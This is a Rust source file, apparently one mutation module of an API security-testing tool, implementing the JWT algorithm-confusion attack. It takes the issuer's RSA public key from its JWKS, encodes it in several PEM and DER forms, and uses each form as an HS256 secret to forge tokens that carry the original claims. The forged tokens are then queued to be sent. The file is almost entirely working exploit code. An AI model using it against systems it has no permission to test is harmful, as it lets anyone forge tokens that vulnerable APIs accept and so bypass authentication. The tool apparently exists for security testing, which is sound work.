//! `key_confusion`: the genuine claims signed with HS256 using the issuer's *public* RSA
//! key (from its JWKS) as the HMAC secret, in the encodings libraries have been known to
//! accept (PEM SubjectPublicKeyInfo and PKCS#1, with and without a final newline, and
//! DER). An API that picks the algorithm from the token header verifies it with that
//! public key and accepts a token anyone could sign. CWE-327, CWE-347; OWASP API2:2023.

use aws_lc_rs::encoding::AsDer;
use aws_lc_rs::rsa::PublicKeyComponents;

use super::attacker::pem_wrap;
use super::{Input, Mutation, Plan, Variant, jwt};
use crate::jose::unb64;

pub struct KeyConfusion;

impl Mutation for KeyConfusion {
    fn name(&self) -> &'static str {
        "key_confusion"
    }

    fn plan(&self, input: &Input<'_>) -> Plan {
        let jwt = match jwt(input) {
            Ok(j) => j,
            Err(skip) => return skip,
        };
        if jwt.alg().starts_with("HS") {
            return Plan::Skip("the token is already HMAC-signed".into());
        }
        let kid = jwt.header.get("kid").and_then(|k| k.as_str());
        let keys: Vec<&serde_json::Value> = input
            .issuer_keys
            .iter()
            .filter(|k| k.get("kty").and_then(|v| v.as_str()) == Some("RSA"))
            .filter(|k| kid.is_none() || k.get("kid").and_then(|v| v.as_str()) == kid)
            .collect();
        let Some(key) = keys.first() else {
            return Plan::Skip("no RSA key of the issuer is known (no JWKS)".into());
        };
        let part = |name: &str| key.get(name).and_then(|v| v.as_str()).and_then(unb64);
        let (Some(n), Some(e)) = (part("n"), part("e")) else {
            return Plan::Skip("the issuer's JWK has no modulus or exponent".into());
        };
        let components = PublicKeyComponents {
            n: n.as_slice(),
            e: e.as_slice(),
        };
        let Ok(spki) = components.as_der() else {
            return Plan::Skip("the issuer's JWK is not a usable RSA key".into());
        };
        let spki = spki.as_ref().to_vec();
        let pkcs1 = rsa_public_key_der(&n, &e);
        let spki_pem = pem_wrap("PUBLIC KEY", &spki);
        let pkcs1_pem = pem_wrap("RSA PUBLIC KEY", &pkcs1);
        let encodings: Vec<(&str, Vec<u8>)> = vec![
            ("PEM SubjectPublicKeyInfo", spki_pem.clone().into_bytes()),
            (
                "PEM SubjectPublicKeyInfo, no final newline",
                spki_pem.trim_end().as_bytes().to_vec(),
            ),
            ("PEM PKCS#1", pkcs1_pem.clone().into_bytes()),
            (
                "PEM PKCS#1, no final newline",
                pkcs1_pem.trim_end().as_bytes().to_vec(),
            ),
            ("DER SubjectPublicKeyInfo", spki),
        ];
        let mut variants = Vec::new();
        for (label, secret) in encodings {
            let t = jwt.clone();
            if let Ok(token) = t.signed(
                &jsonwebtoken::EncodingKey::from_secret(&secret),
                jsonwebtoken::Algorithm::HS256,
            ) {
                variants.push(Variant {
                    label: format!("HS256 with the issuer's public key as {label}"),
                    token,
                });
            }
        }
        Plan::Send(variants)
    }
}

/// DER `RSAPublicKey ::= SEQUENCE { modulus INTEGER, publicExponent INTEGER }`.
fn rsa_public_key_der(n: &[u8], e: &[u8]) -> Vec<u8> {
    let int = |v: &[u8]| {
        let mut body = v.to_vec();
        if body.first().is_some_and(|b| b & 0x80 != 0) {
            body.insert(0, 0);
        }
        tlv(0x02, &body)
    };
    let mut seq = int(n);
    seq.extend(int(e));
    tlv(0x30, &seq)
}

fn tlv(tag: u8, body: &[u8]) -> Vec<u8> {
    let mut out = vec![tag];
    let len = body.len();
    if len < 0x80 {
        out.push(len as u8);
    } else {
        let bytes: Vec<u8> = len
            .to_be_bytes()
            .iter()
            .copied()
            .skip_while(|b| *b == 0)
            .collect();
        out.push(0x80 | bytes.len() as u8);
        out.extend(bytes);
    }
    out.extend_from_slice(body);
    out
}
